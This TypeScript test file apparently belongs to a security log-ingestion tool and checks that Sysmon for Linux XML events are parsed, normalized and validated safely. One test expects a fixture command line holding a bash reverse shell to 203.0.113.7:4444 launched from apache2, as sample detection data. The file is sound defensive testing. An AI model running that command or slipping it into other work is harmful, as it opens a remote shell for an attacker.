import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { toRawRecord } from '../../src/ingest/json/shapes.js';
import { readXmlEvents, xmlSource } from '../../src/ingest/xml/index.js';
import { parseXml, unescapeXml } from '../../src/ingest/xml/parse.js';
import { projectRoot } from '../helpers/corpus.js';
import { codes, normalizer, readPaths, records, run } from './helpers-text.js';

const dir = `${projectRoot}/test/fixtures/xml`;
const fx = (f: string) => readFileSync(`${dir}/${f}`);
const EV = (body: string, sys = '<Provider Name="Linux-Sysmon"/><EventID>1</EventID><Computer>h</Computer>') => `<Event><System>${sys}</System><EventData>${body}</EventData></Event>`;

test('Sysmon for Linux in syslog lines: system header, EventData, sysmon mappings apply', async () => {
  const r = await run(readXmlEvents, fx('sysmon-linux.syslog'), 97);
  assert.deepEqual(codes(r), []);
  const recs = records(r);
  assert.equal(recs.length, 2);
  assert.deepEqual(recs[0].system, { provider: 'Linux-Sysmon', channel: 'Linux-Sysmon/Operational', eventId: 1, computer: 'lnx01', timeMs: Date.parse('2023-11-14T22:13:20.100Z'), recordId: 10, userId: '0', processId: 1234, threadId: 1234, level: 4, task: 1, opcode: 0, keywords: '0x8000000000000000', version: 5 });
  assert.deepEqual([recs[0].ref.line, recs[1].ref.line], [1, 2]);
  const [p, net] = recs.map((x) => normalizer.normalize(x));
  assert.equal(p.mapping, 'sysmon-1-process-create');
  if (p.kind !== 'process_start' || net.kind !== 'network') return assert.fail('kinds');
  assert.equal(p.process.commandLine, 'sh -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"');
  assert.equal(p.parent.image, '/usr/sbin/apache2');
  assert.deepEqual([net.dstIp, net.dstPort, net.initiated], ['203.0.113.7', 4444, true]);
});

test('pretty-printed <Events> export and JSON-wrapped events give the same records', async () => {
  const a = records(await run(readXmlEvents, fx('sysmon-linux.syslog')));
  const b = records(await run(readXmlEvents, fx('sysmon-linux.xml'), 50));
  assert.deepEqual(b.map((x) => x.data), a.map((x) => x.data));
  const lines = fx('sysmon-linux-wrapped.json').toString().trim().split('\n');
  const c = lines.map((l, i) => toRawRecord(JSON.parse(l), 'w.json', i + 1, 0));
  assert.deepEqual(c.map((x) => x.format), ['json-xml', 'json-xml']);
  assert.deepEqual(c.map((x) => x.data), a.map((x) => x.data));
  const { events, readers } = await readPaths([dir]);
  assert.deepEqual([...readers].sort(), ['json', 'xml']);
  assert.deepEqual(events.map((e) => e.kind).sort(), ['network', 'network', 'network', 'process_start', 'process_start', 'process_start']);
});

test('sniff: XML events yes (syslog or file), JSON-wrapped left to the JSON reader, EVTX-binary no', () => {
  assert.ok(xmlSource.sniff(fx('sysmon-linux.syslog'), 'syslog') >= 0.9);
  assert.ok(xmlSource.sniff(fx('sysmon-linux.xml'), 'a.xml') >= 0.9);
  assert.ok(xmlSource.sniff(fx('sysmon-linux-wrapped.json'), 'a.json') < 0.9);
  assert.equal(xmlSource.sniff(Buffer.from('ElfFile\0\0\0\0\0\0\0\0\0\0\0\0'), 'a.evtx'), 0);
});

test('entities: the five predefined and numeric only; DTDs refused (no expansion)', () => {
  assert.equal(unescapeXml('&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&foo;&#xD800;'), `<>&"'AB&foo;&#xD800;`);
  assert.throws(() => parseXml('<!DOCTYPE x [<!ENTITY a "b">]><Event/>'), /DTD/);
  assert.equal(parseXml('<a><![CDATA[<b>&amp;]]></a>').text, '<b>&amp;');
});

test('bad input: malformed SW1012, no System SW1009, unterminated SW1008, oversized SW1006, located', async () => {
  const text = [
    `Nov 1 00:00:00 h sysmon: ${EV('<Data Name="A">1</Data>')}`,
    `Nov 1 00:00:00 h sysmon: <Event><System><EventID>1</System></Event>`,
    `Nov 1 00:00:00 h sysmon: <Event><Other/></Event>`,
    `Nov 1 00:00:00 h sysmon: ${EV('<Data Name="A">2</Data>')}`,
    `Nov 1 00:00:00 h sysmon: <Event><System>`,
  ].join('\n');
  const r = await run(readXmlEvents, text, 13);
  assert.deepEqual(codes(r), ['SW1012@2', 'SW1009@3', 'SW1008@5']);
  assert.deepEqual(records(r).map((x) => x.data.A), ['1', '2']);
  const big = `<Event><System>${'x'.repeat(1_100_000)}\n${EV('<Data Name="A">3</Data>')}\n`;
  const r2 = await run(readXmlEvents, big, 65536);
  assert.deepEqual(codes(r2), ['SW1006@1']);
  assert.deepEqual(records(r2).map((x) => x.data.A), ['3']);
});

test('bounds and hostile names: deep nesting refused, __proto__ Data name is data, not a prototype', async () => {
  assert.throws(() => parseXml('<a>'.repeat(40) + '</a>'.repeat(40)), /deeper/);
  const [rec] = records(await run(readXmlEvents, EV('<Data Name="__proto__">x</Data><Data Name="constructor">y</Data>')));
  assert.equal(Object.getPrototypeOf(rec.data), Object.prototype);
  assert.equal(rec.data.constructor, 'y');
});
